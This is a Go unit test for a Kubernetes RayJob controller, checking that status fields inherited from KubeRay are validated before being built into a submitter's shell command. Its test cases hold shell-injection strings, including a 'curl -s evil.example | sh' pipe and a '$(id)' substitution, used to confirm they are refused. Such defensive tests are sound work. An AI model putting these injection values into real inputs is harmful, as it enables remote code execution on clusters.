package rayjob

import (
	"context"
	"strings"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	rayv1 "github.com/raygate/raygate/apis/ray/v1"
	"github.com/raygate/raygate/controllers/rayjob/plan"
	"github.com/raygate/raygate/internal/raypod"
	"github.com/raygate/raygate/test/builders"
)

// A RayJob taken over mid-attempt (KubeRay stopped while it was Initializing) carries the
// names another writer recorded in its status. raygate builds the submitter's shell command
// from status.jobId and status.dashboardURL, so a recorded value that raygate would never
// have recorded is refused (ValidationFailed, naming the field) and nothing is built from
// it; the KubeRay-shaped values of the same status go on to a submitter.
func TestATakenOverStatusIsCheckedBeforeItIsUsed(t *testing.T) {
	for name, tc := range map[string]struct {
		dashboardURL, jobID string
		wantField           string // "": the submitter is created
	}{
		"as KubeRay records them":             {dashboardURL: "job-krc-head-svc.ns.svc.cluster.local:8265", jobID: "job-kr1"},
		"a dashboard address with shell text": {dashboardURL: "x:1; curl -s evil.example | sh #", jobID: "job-kr1", wantField: "status.dashboardURL"},
		"a submission id with shell text":     {dashboardURL: "job-krc-head-svc.ns.svc.cluster.local:8265", jobID: "job-kr1 $(id)", wantField: "status.jobId"},
	} {
		t.Run(name, func(t *testing.T) {
			job := withUID(builders.RayJob("job", "ns").Obj())
			job.Finalizers = []string{plan.StopJobFinalizer}
			job.Status = rayv1.RayJobStatus{
				JobDeploymentStatus: rayv1.JobDeploymentStatusInitializing, JobStatus: rayv1.JobStatusNew,
				JobId: tc.jobID, RayClusterName: "job-krc", DashboardURL: tc.dashboardURL,
				StartTime: &metav1.Time{Time: t0}, Succeeded: ptr.To[int32](0), Failed: ptr.To[int32](0),
			}
			rc := builders.RayCluster("job-krc", "ns").Obj()
			rc.OwnerReferences = []metav1.OwnerReference{{APIVersion: rayv1.GroupVersion.String(), Kind: rayv1.RayJobKind, Name: "job", UID: job.UID, Controller: ptr.To(true)}}
			rc.Status.State = rayv1.Ready
			f := newFixture(t, job, rc, raypod.HeadService(rc))
			f.mustPass("job")

			st := f.job("job").Status
			err := f.api.Get(context.Background(), types.NamespacedName{Namespace: "ns", Name: "job"}, &batchv1.Job{})
			if tc.wantField == "" {
				if err != nil || st.JobDeploymentStatus != rayv1.JobDeploymentStatusRunning {
					t.Fatalf("no submitter (%v) or not Running: %+v", err, st)
				}
				return
			}
			if err == nil {
				t.Fatalf("a submitter Job was built from the recorded %s", tc.wantField)
			}
			if st.JobDeploymentStatus != rayv1.JobDeploymentStatusValidationFailed || !strings.Contains(st.Message, tc.wantField) {
				t.Errorf("status %s: %q, want ValidationFailed naming %s", st.JobDeploymentStatus, st.Message, tc.wantField)
			}
			if ev := f.events(); len(ev) != 1 || !strings.HasPrefix(ev[0], "Warning InvalidRayJobStatus") {
				t.Errorf("events %v", ev)
			}
		})
	}
}
